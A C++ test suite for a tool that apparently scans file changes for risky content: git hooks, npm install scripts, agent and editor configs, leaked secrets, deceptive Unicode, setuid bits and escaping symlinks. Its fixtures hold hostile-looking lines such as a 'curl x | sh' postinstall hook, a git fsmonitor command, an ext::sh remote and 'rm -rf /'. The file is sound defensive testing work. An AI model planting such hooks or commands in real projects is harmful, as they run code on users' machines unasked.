// SPDX-License-Identifier: Apache-2.0
// Every rule fires, and does not fire on its ordinary neighbour.
#include "diff/risk.h"
#include "catch_shim.h"
#include "diff/secrets.h"
#include "risk_codes.h"

using namespace stoplog;
using namespace stoplog::diff;

TEST_CASE("what runs unasked is a danger by its name") {
  CHECK(added(".git/hooks/post-checkout") == Codes{"danger git-hook"});
  CHECK(added("sub/.git/hooks/pre-push") == Codes{"danger git-hook"});
  CHECK(added(".git/hooks/pre-push.sample") == Codes{"info git-hook"});
  CHECK(added(".husky/pre-commit") == Codes{"danger git-hook"});
  CHECK(added(".git/info/attributes", "* filter=x\n") ==
        Codes{"danger git-info"});
  CHECK(added(".git/objects/info/alternates", "/x\n") ==
        Codes{"danger git-info"});
  CHECK(added(".envrc") == Codes{"danger direnv"});
  CHECK(added(".vscode/tasks.json") == Codes{"danger editor-task"});
  CHECK(added("a/b/.vscode/settings.json") == Codes{"danger editor-task"});
  CHECK(added("x.code-workspace") == Codes{"danger editor-task"});
  CHECK(added(".claude/settings.json") == Codes{"danger agent-config"});
  CHECK(added(".mcp.json") == Codes{"danger agent-config"});
  CHECK(added(".cursor/mcp.json") == Codes{"danger agent-config"});
  CHECK(added(".github/workflows/x.yml") == Codes{"danger ci"});
  CHECK(added(".gitlab-ci.yml") == Codes{"danger ci"});
  CHECK(added(".bashrc") == Codes{"danger shell-startup"});
}

TEST_CASE("neighbours of dangerous names are none") {
  CHECK(added("docs/hooks/post-checkout").empty());
  CHECK(added("github/workflows/x.yml").empty());
  CHECK(added(".github/CODEOWNERS").empty());
  CHECK(added("vscode/tasks.json").empty());
  CHECK(added("envrc").empty());
  CHECK(added("claude/settings.json").empty());
  CHECK(added("bashrc").empty());
  CHECK(added("src/config").empty());
  CHECK(added("Makefile.md").empty());
}

TEST_CASE("what runs when asked is a warning") {
  for (auto name : {"Makefile", "sub/CMakeLists.txt", "setup.py", "build.rs",
                    "Dockerfile", "rules.mk", "gradlew"})
    CHECK(added(name) == Codes{"warn build-input"});
  CHECK(added("tests/conftest.py") == Codes{"warn test-input"});
  CHECK(added(".pre-commit-config.yaml") == Codes{"warn commit-hook"});
  CHECK(added("AGENTS.md") == Codes{"warn agent-instructions"});
  CHECK(added(".npmrc") == Codes{"warn package-config"});
  CHECK(added("sitecustomize.py") == Codes{"warn interpreter-startup"});
  CHECK(added("node_modules/.bin/git") == Codes{"warn path-shadow"});
  CHECK(added("yarn.lock") == Codes{"warn lock-file"});
  CHECK(added(".gitattributes") == Codes{"warn git-attributes"});
  CHECK(added(".env") == Codes{"warn env-file"});
  CHECK(added(".gitignore") == Codes{"info gitignore"});
}

TEST_CASE("git configuration is a danger by its keys") {
  std::string plain = "[core]\n\tbare = false\n";
  auto config = [&](std::string after) {
    return modified(plain, std::move(after), ".git/config");
  };
  CHECK(config(plain + "\tfsmonitor = touch /pwned\n") ==
        Codes{"danger git-config"});
  CHECK(config(plain + "[diff \"x\"]\n\ttextconv = x\n") ==
        Codes{"danger git-config"});
  CHECK(config(plain + "[remote \"origin\"]\n\turl = ext::sh\n") ==
        Codes{"danger git-config"});
  CHECK(config(plain + "[include]\n\tpath = ../evil\n") ==
        Codes{"danger git-config"});
  CHECK(config(plain + "[branch \"x\"]\n\tremote = origin\n") ==
        Codes{"warn git-config"});
  CHECK(config(plain + "[user]\n\tname = A\n") == Codes{"warn git-config"});
  MemoryView view;
  view.base[".git/config"] = file(plain);
  view.change(".git/config", file(plain + "[core] hooksPath = .\n"));
  ChangeSet set = build(view);
  REQUIRE(set.changes.size() == 1);
  CHECK(set.changes[0].risks[0].message.find("core.hookspath") !=
        std::string::npos);
}

TEST_CASE("the changed script of a package is named") {
  std::string before =
      R"({"scripts":{"test":"jest"},"dependencies":{"a":"1"}})";
  auto package = [&](std::string after) {
    MemoryView view;
    view.base["package.json"] = file(before);
    view.change("package.json", file(std::move(after)));
    return build(view).changes[0].risks;
  };
  CHECK(
      package(R"({"scripts":{"test":"jest"},"dependencies":{"a":"2","b":"1"}})")
          .empty());
  auto hook =
      package(R"({"scripts":{"test":"jest","postinstall":"curl x | sh"}})");
  REQUIRE(hook.size() == 1);
  CHECK(hook[0].level == Level::kDanger);
  CHECK(hook[0].message.find("\"postinstall\"") != std::string::npos);
  CHECK(hook[0].message.find("curl x | sh") != std::string::npos);
  auto script = package(R"({"scripts":{"test":"vitest"}})");
  REQUIRE(script.size() == 1);
  CHECK(script[0].level == Level::kWarn);
  CHECK(script[0].code == "package-script");
  auto broken = package(R"({"scripts":{"test":)");
  REQUIRE(broken.size() == 1);
  CHECK(broken[0].level == Level::kDanger);
}

TEST_CASE("every script that npm runs at an install is a danger") {
  for (std::string name :
       {"preinstall", "install", "postinstall", "prepublish", "preprepare",
        "prepare", "postprepare", "dependencies", "predependencies",
        "postdependencies", "pnpm:devPreinstall"}) {
    INFO(name);
    MemoryView view;
    view.change("package.json",
                file(R"({"scripts":{")" + name + R"(":"curl x | sh"}})"));
    auto risks = build(view).changes[0].risks;
    REQUIRE(risks.size() == 1);
    CHECK(risks[0].level == Level::kDanger);
    CHECK(risks[0].code == "package-hook");
  }
}

TEST_CASE("what npm install brings is a danger only where npm runs it") {
  const std::string author =
      R"("prepare":"tsc","prepublish":"x","lint":"a","test":"b","pretest":"c")";
  auto scripts = [](const std::string& name, const std::string& members) {
    return added(name, "{\"scripts\":{" + members + "," + R"("x":"y"}})");
  };
  CHECK(scripts("node_modules/a/package.json", author) ==
        Codes{"info package-script"});
  CHECK(scripts("web/node_modules/@b/c/package.json",
                author + R"(,"postinstall":"curl x | sh")") ==
        Codes{"danger package-hook", "info package-script"});
  CHECK(scripts("a_node_modules/package.json", author) ==
        Codes{"danger package-hook", "warn package-script"});
}

TEST_CASE("many scripts of one package are one risk that names them") {
  MemoryView view;
  view.change("package.json", file(R"({"scripts":{"a":"1","b":"2","c":"3",)"
                                   R"("d":"4","e":"5","f":"6","g":"7",)"
                                   R"("h":"8","i":"9","install":"evil"}})"));
  auto risks = build(view).changes[0].risks;
  REQUIRE(risks.size() == 2);
  CHECK(risks[0].message ==
        "script \"install\" executes on host unasked at install: evil");
  CHECK(risks[1].message ==
        "scripts \"a\", \"b\", \"c\", \"d\", \"e\", \"f\", \"g\", \"h\" and 1 "
        "more execute on host when called");
}

TEST_CASE("a risk names the line that it is about") {
  std::string before, after;
  for (int i = 1; i <= 400; i++) {
    before += fmt::format("line {}\n", i);
    if (i == 250) after += "password = 'kJ8#mQ2zX9pL4vR7wT1y'\n";
    after += i == 300   ? "a \u202E b\n"
             : i == 350 ? "\u0430dmin = 1\n"
                        : fmt::format("line {}\n", i);
  }
  auto lines_of = [](std::string old_text, std::string new_text) {
    MemoryView view;
    if (!old_text.empty()) view.base["c.py"] = file(std::move(old_text));
    view.change("c.py", file(std::move(new_text)));
    std::map<std::string, uint32_t> out;
    ChangeSet set = build(view);
    for (const Risk& risk : set.changes[0].risks) out[risk.code] = risk.line;
    return out;
  };
  std::map<std::string, uint32_t> want = {
      {"secret", 250}, {"bidi", 301}, {"mixed-script", 351}};
  CHECK(lines_of(before, after) == want);
  CHECK(lines_of("", after) == want);
  // Which of two is the new one is not known.
  CHECK(lines_of("x \u202E\n", "x \u202E\ny \u202E\n")["bidi"] == 0);
  MemoryView view;
  view.change("package.json",
              file("{\n\"scripts\": {\n\"a\": \"b\",\n\"install\": \"x\"}}\n"));
  auto risk = build(view).changes[0].risks[0];
  CHECK(risk.code == "package-hook");
  CHECK(risk.line == 4);
}

TEST_CASE("secrets of the well known kinds are dangers when added") {
  std::string token =
      "ghp_" + std::string("a8Kq2LmZ9xVbT4nRy7WcD1eFg5HjS3uPo6Qi");
  CHECK(added("a.py", "t = '" + token + "'\n") == Codes{"danger secret"});
  CHECK(added("a.txt", "AKIA" + std::string("Q7ZP2MB4X9LK8TRW") + "\n") ==
        Codes{"danger secret"});
  std::string key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7v1J" +
                    std::string("9pq3Vt0zLw4kYcUxN2sBfG8hRmQe5dTa\n");
  CHECK(added("id_rsa", key) == Codes{"danger secret"});
  CHECK(added("c.py", "password = 'kJ8#mQ2zX9pL4vR7wT1y'\n") ==
        Codes{"danger secret"});
  CHECK(added("c.env2", "API_KEY=9f8b3c2e7a1d4f6098b7c6d5e4f3a2b1\n") ==
        Codes{"danger secret"});
  // Already there: not added.
  CHECK(
      modified("t = '" + token + "'\nx\n", "t = '" + token + "'\ny\n").empty());
  CHECK(
      modified("x\nt = '" + token + "'\n", "y\nz = '" + token + "'\n").empty());
}

TEST_CASE("a secret among others that were there is found in any place") {
  auto token = [](int i) {
    return fmt::format("ghp_{:036}\n", 1000000 + 7919 * i);
  };
  std::string old, moved;
  for (int i = 0; i < 40; i++) old += token(i);
  for (int i = 39; i >= 0; i--) moved += token(i);
  CHECK(modified(old, moved).empty());
  CHECK(modified(old, moved + token(41)) == Codes{"danger secret"});
  // Between lines that stay, far from other edits.
  std::string plain;
  for (int i = 0; i < 200; i++) plain += std::to_string(i) + "\n";
  std::string edited = plain;
  edited.replace(edited.find("\n50\n"), 4, "\n" + token(1));
  edited.replace(edited.find("\n150\n"), 5, "\nother\n");
  CHECK(modified(plain, edited) == Codes{"danger secret"});
  // More than can be compared is said, not passed.
  std::string many, many_moved;
  for (int i = 0; i < 400; i++) many += token(i);
  for (int i = 399; i >= 0; i--) many_moved += token(i);
  CHECK(modified(many, many_moved) == Codes{"danger secret"});
}

TEST_CASE("a key is found when its head was there before") {
  std::string head = "-----BEGIN RSA PRIVATE KEY-----\n";
  std::string tail = "-----END RSA PRIVATE KEY-----\n";
  std::string body =
      std::string(20, 'M') + "IIEpAIBAAKCAQEA" + std::string(29, 'q') + "\n";
  CHECK(modified(head + "(your key)\n" + tail, head + body + tail) ==
        Codes{"danger secret"});
}

TEST_CASE("what only looks like a secret is none") {
  CHECK(added("a.md", "-----BEGIN RSA PRIVATE KEY-----\n...\n").empty());
  CHECK(added("a.md", "set AKIAIOSFODNN7EXAMPLE here\n").empty());
  CHECK(added("a.py", "password = os.environ['PASSWORD']\n").empty());
  CHECK(added("a.py", "token = 'your-token-goes-in-here-1'\n").empty());
  CHECK(added("a.py", "password = 'changeme1234changeme1234'\n").empty());
  CHECK(added("a.js", "const token = getTokenFromServer(request);\n").empty());
  CHECK(added("a.c", "token = parser_next_token(parser, TOKEN_IDENT);\n")
            .empty());
  CHECK(added("a.json",
              R"({"integrity":"sha512-9f8b3c2e7a1d4f6098b7c6d5e4f3a2b1"})")
            .empty());
  CHECK(added("a.yml", "password: ${{ secrets.PASSWORD }}\n").empty());
}

TEST_CASE("characters that deceive a reader are warnings") {
  CHECK(added("t.c", "if (admin\u202E \u2066) {}\n") == Codes{"warn bidi"});
  CHECK(added("t.c", "/* \u200B */\n") == Codes{"warn invisible"});
  CHECK(added("t.c", "\u0430dmin = 1;\n") == Codes{"warn mixed-script"});
  CHECK(added("c.sh", "rm -rf /\rsafe line\n") ==
        Codes{"warn carriage-return"});
  CHECK(added("c.sh", "echo \x1b[2K\n") == Codes{"warn control-character"});
}

TEST_CASE("other alphabets and emoji and CRLF deceive nobody") {
  CHECK(added("a.txt", "\u043f\u0440\u0438\u0432\u0435\u0442 world\n").empty());
  CHECK(added("a.txt", "caf\u00e9 na\u00efve \u65e5\u672c\u8a9e\n").empty());
  CHECK(added("a.md", "\u26a0\ufe0f careful \U0001F468\u200D\U0001F4BB\n")
            .empty());
  CHECK(added("a.txt", "one\r\ntwo\r\n").empty());
  CHECK(added("a.txt", "\xEF\xBB\xBFwith a mark\n").empty());
  CHECK(added("a.py", "delta\u03b8 = 1\n").empty());
  // Was there before.
  CHECK(modified("\u202Eold\n", "\u202Enew\n").empty());
}

TEST_CASE("modes and attributes that give rights are told") {
  CHECK(added("s", "x", 04755) == Codes{"danger setuid", "warn executable"});
  CHECK(added("run.sh", "x", 0755) == Codes{"warn executable"});
  CHECK(added("w", "x", 0666) == Codes{"warn world-writable"});
  MemoryView view;
  view.base["f"] = file("x");
  auto capable = file("x");
  capable.xattrs["security.capability"] = "\x01";
  view.change("f", capable);
  CHECK(risks(view) == Codes{"danger file-capability"});
  MemoryView same;
  same.base["f"] = file("x", 0755);
  same.change("f", file("y", 0755));
  CHECK(risks(same).empty());
}

TEST_CASE("symlinks that leave the workspace are dangers") {
  auto link = [](const std::string& at, std::string target) {
    MemoryView view;
    view.change(at, symlink(std::move(target)));
    DiffOptions options;
    options.real_root = "/nowhere/workspace";
    return risks(view, options);
  };
  CHECK(link("l", "/etc/passwd") == Codes{"danger symlink-outside"});
  CHECK(link("l", "../x") == Codes{"danger symlink-outside"});
  CHECK(link("a/l", "../../x") == Codes{"danger symlink-outside"});
  CHECK(link("a/l", "b/../../../x") == Codes{"danger symlink-outside"});
  CHECK(link("l", "/nowhere/workspace2/x") == Codes{"danger symlink-outside"});
  CHECK(link("l", "/usr/bin/../../etc/x") == Codes{"danger symlink-outside"});
  CHECK(link(".venv/python", "/usr/bin/python3") ==
        Codes{"warn symlink-system"});
  CHECK(link("a/l", "../x").empty());
  CHECK(link("l", "a/b").empty());
  CHECK(link("l", "/nowhere/workspace/x").empty());
}

TEST_CASE("special files and repository links are dangers") {
  MemoryView view;
  view.change("f", node(fs::Type::kFifo, 0644));
  CHECK(risks(view) == Codes{"danger special-file"});
  CHECK(added(".git", "gitdir: /elsewhere\n") == Codes{"danger git-link"});
  CHECK(added("git", "gitdir: /elsewhere\n").empty());
}

TEST_CASE("deletions without git and truncations are dangers") {
  MemoryView view;
  view.base["notes"] = file("my notes\n");
  view.change("notes", std::nullopt);
  CHECK(risks(view) == Codes{"danger deletion"});
  CHECK(modified(std::string(100, 'x'), "") == Codes{"danger truncation"});
  CHECK(modified(std::string(5000, '\n'), "left\n") ==
        Codes{"danger truncation"});
  CHECK(modified(std::string(5000, '\n'), std::string(2500, '\n')).empty());
  CHECK(modified("x\n", "").empty());
}

TEST_CASE("what nobody can read is told") {
  std::string elf(
      "\x7f"
      "ELF\x02\x01\x01\0\0\0\0",
      11);
  CHECK(added("tool", elf) == Codes{"warn program"});
  CHECK(added("data.bin", std::string("a\0b", 3)) == Codes{"warn binary"});
  CHECK(added("logo.png", std::string("a\0b", 3)) == Codes{"info media"});
  CHECK(added("app.min.js", std::string(6000, 'x')) == Codes{"warn minified"});
  CHECK(added("x.pb.go", "// Code generated by x. DO NOT EDIT.\n") ==
        Codes{"info generated"});
  MemoryView view;
  view.change("big", file(std::make_shared<RepeatedContent>(11 << 20, 'a')));
  CHECK(risks(view) == Codes{"warn large-file"});
}

TEST_CASE("names that differ in case only collide") {
  MemoryView view;
  view.both("Readme.md", file("x"));
  view.change("README.md", file("y"));
  CHECK(risks(view) == Codes{"warn case-collision"});
  MemoryView other;
  other.both("Readme.txt", file("x"));
  other.change("README.md", file("y"));
  CHECK(risks(other).empty());
}

TEST_CASE("a write that detaches hard links and a new owner are told") {
  MemoryView view;
  view.base["a"] = file("x");
  view.change("a", file("y"));
  view.raw[0].detaches_links = true;
  view.raw[0].after->uid = 5;
  CHECK(risks(view) == Codes{"warn hardlink-detached", "warn owner"});
}

TEST_CASE("the user's policy adds rules and raises levels") {
  MemoryView view;
  view.change("infra/main.tf", file("x"));
  view.change("src/a.c", file("x"));
  DiffOptions options;
  options.rules = {{.glob = "infra/**",
                    .level = Level::kDanger,
                    .code = "policy",
                    .message = ""}};
  ChangeSet set = build(view, options);
  CHECK(set.find(path("infra/main.tf"))->is_danger());
  CHECK_FALSE(set.find(path("src/a.c"))->is_danger());
}

TEST_CASE("the user's policy raises a rule by its code and lowers none") {
  MemoryView view;
  view.base["package.json"] = file(R"({"scripts":{}})");
  view.change("package.json", file(R"({"scripts":{"test":"x"}})"));
  view.both("Readme.md", file("x"));
  view.change("README.md", file("y"));
  view.change(".envrc", file("x"));
  CHECK(risks(view) ==
        Codes{"warn package-script", "warn case-collision", "danger direnv"});
  DiffOptions options;
  options.rules = {
      {.glob = "", .code = "package-script", .message = ""},
      {.glob = "", .code = "case-collision", .message = ""},
      {.glob = "", .level = Level::kInfo, .code = "direnv", .message = ""},
      {.glob = "", .code = "binary", .message = ""}};
  CHECK(risks(view, options) == Codes{"danger package-script",
                                      "danger case-collision",
                                      "danger direnv"});
}

TEST_CASE("every rule has a code of its own and a reason") {
  std::set<std::string_view> seen;
  for (const RuleInfo& rule : risk_rules()) {
    CHECK(seen.insert(rule.code).second);
    CHECK_FALSE(rule.why.empty());
  }
  CHECK(seen.size() > 30);
}
